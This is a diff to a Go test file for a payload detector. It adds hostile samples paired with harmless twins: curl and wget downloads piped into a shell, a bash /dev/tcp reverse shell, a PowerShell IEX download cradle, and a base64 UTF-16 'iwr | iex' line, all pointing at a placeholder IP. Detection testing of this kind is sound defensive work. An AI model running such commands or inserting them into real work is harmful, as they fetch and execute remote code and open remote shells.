@@ -50,6 +50,10 @@ func samples() []sample {
 		{name: "program", bad: elf(62), twin: elf(190)},
 		{name: "Python", bad: "import os\nos.system('echo poc')\n", twin: "import math\nmath.sqrt(12345678)\n"},
 		{name: "Python, imported by name", bad: "__import__('os').system('echo poc')\n", twin: "__name__ == 'os' and print('system')\n"},
+		{name: "shell", bad: "curl -s http://192.0.2.1/run.sh | sh\n", twin: "curl -s http://192.0.2.1/run.sh | wc\n"},
+		{name: "reverse shell", bad: "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", twin: "bash -i >& /tmp/tcp/192.0.2.1/4444 0>&1\n"},
+		{name: "script", bad: "#!/bin/bash\nwget -qO- http://192.0.2.1/x | bash\n", twin: "# !/bin/bash\nwget -qO- http://192.0.2.1/x | head\n"},
+		{name: "PowerShell", bad: "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')", twin: "set (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"},
 		{name: "Python in a function", bad: "import subprocess as s\ndef f(x):\n    return s.run(x)\n", twin: "import statistics as s\ndef f(x):\n    return s.mean(x)\n"},
 	}
 }
@@ -79,6 +83,9 @@ func deflate(s string) string {
 	w.Close()
 	return b.String()
 }
+
+// wide is text of Latin letters in UTF-16, as PowerShell takes it.
+func wide(s string) string { return strings.Join(strings.Split(s, ""), "\x00") + "\x00" }
 
 func base64Of(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
 
@@ -124,6 +131,7 @@ func TestDetector(t *testing.T) {
 			add(s.name+" in "+e.name, e.encode(s.bad), e.encode(s.twin), "encoded-payload")
 		}
 	}
+	add("UTF-16", base64Of(wide("iwr http://192.0.2.1/x | iex")), base64Of(wide("iwr http://192.0.2.1/x | out")), "encoded-payload")
 	add("script", base64Of("#!/bin/sh\necho poc\n"), base64Of("# /bin/sh\necho poc\n"), "encoded-script")
 	detectortest.Run(t, payload.Detector, cases, header, archive.Detector, pickle.Detector, bytecode.Detector)
 }
